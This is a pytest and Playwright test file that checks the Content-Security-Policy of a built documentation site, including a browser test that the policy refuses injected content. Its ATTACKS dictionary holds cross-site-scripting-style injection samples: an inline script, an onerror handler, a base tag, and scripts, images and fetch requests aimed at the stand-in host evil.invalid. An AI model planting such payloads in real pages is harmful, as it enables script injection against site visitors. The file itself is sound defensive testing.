"""The Content-Security-Policy of the built site: on every page; what we do passes, nothing else does."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.site.chromium import find, opened, watch

FIRST = re.compile(r'<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)">')

#: What a text of a record would do if it were not encoded: each adds to a page something that must not work.
ATTACKS = {
    "a script": "x = document.createElement('script'); x.textContent = 'window.harm = 1'; document.body.append(x)",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=/none onerror=\"window.harm = 1\">')",
    "a script of another host": (
        "x = document.createElement('script'); x.src = 'http://evil.invalid/x.js'; document.body.append(x)"
    ),
    "a picture of another host": "new Image().src = 'http://evil.invalid/x.png'",
    "a request": "fetch('http://evil.invalid/').catch(() => 0)",
    "a style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"position: fixed\">x</p>')",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"/index.html\"></iframe>')",
    "a base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"http://evil.invalid/\">')",
    "text run as a script": "try { new Function('window.harm = 1')() } catch { }",
}


@pytest.fixture(scope="module")
def page(browser: Browser) -> Iterator[Page]:
    with opened(browser) as page:
        yield page


def test_every_page_begins_with_its_policy(site: Path) -> None:
    for path in site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        found = FIRST.search(text)
        assert found, path
        assert "unsafe" not in found[1]
        assert text.count("http-equiv") == 1, path
        assert text.encode().index(b'<meta charset="utf-8">') < 1024, "where a browser looks for it"


def test_no_page_has_a_style_or_a_handler_of_its_own(site: Path) -> None:
    for path in site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"<[a-z][^>]*\s(style|on[a-z]+)=", text), path
        assert "<style" not in text, path


@pytest.mark.browser
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_others_would_do_is_refused(page: Page, address: str, attack: str) -> None:
    page.goto(address)
    page.evaluate("addEventListener('securitypolicyviolation', e => { window.refused = e.effectiveDirective })")
    # Not at once: what a test evaluates itself, a browser lets evaluate more.
    page.evaluate(f"() => {{ setTimeout(() => {{ let x; {ATTACKS[attack]}; }}) }}")
    page.wait_for_function("() => window.refused", timeout=5000)
    assert page.evaluate("window.harm") is None
    assert page.evaluate("document.baseURI").startswith(address)


@pytest.mark.browser
def test_what_we_do_passes(page: Page, address: str) -> None:
    seen = watch(page, address)
    page.goto(address + "compliance/index.html")
    assert page.locator(".bar > rect").first.bounding_box()
    find(page, "supervision")
    page.keyboard.press("Escape")
    before = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("label[for^=__palette]:visible").click()
    assert page.locator("body").get_attribute("data-md-color-scheme") != before
    page.reload()
    assert page.locator("body").get_attribute("data-md-color-scheme") != before, "the choice is remembered"
    page.locator(".sheet a").first.click()
    page.wait_for_url("**/compliance/protocols/*.html")
    page.emulate_media(media="print")
    assert seen == []


@pytest.mark.browser
def test_the_pages_open_from_a_folder_too(browser: Browser, site: Path) -> None:
    with opened(browser) as page:
        page.goto((site / "compliance/index.html").as_uri())
        inks = page.evaluate("[...document.styleSheets].map(s => s.href.startsWith('file:'))")
        assert len(inks) > 3
        assert page.evaluate("getComputedStyle(document.querySelector('.bar > rect')).fill") != "rgb(0, 0, 0)"
